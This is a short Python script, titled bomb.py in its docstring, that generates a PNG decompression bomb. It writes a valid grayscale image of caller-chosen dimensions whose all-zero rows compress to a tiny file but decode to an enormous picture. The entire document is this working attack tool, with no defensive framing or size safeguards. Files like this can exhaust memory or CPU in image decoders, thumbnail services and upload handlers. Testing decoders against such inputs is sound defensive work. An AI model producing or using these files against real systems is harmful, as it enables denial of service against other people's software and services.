"""A PNG of one gray, small as a file and large as a picture: bomb.py WIDTH HEIGHT OUT.png"""

import struct
import sys
import zlib

width, height, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]


def chunk(name, body):
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


packer = zlib.compressobj(9)
row = bytes(1 + width)
body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
with open(out, "wb") as file:
    file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b""))
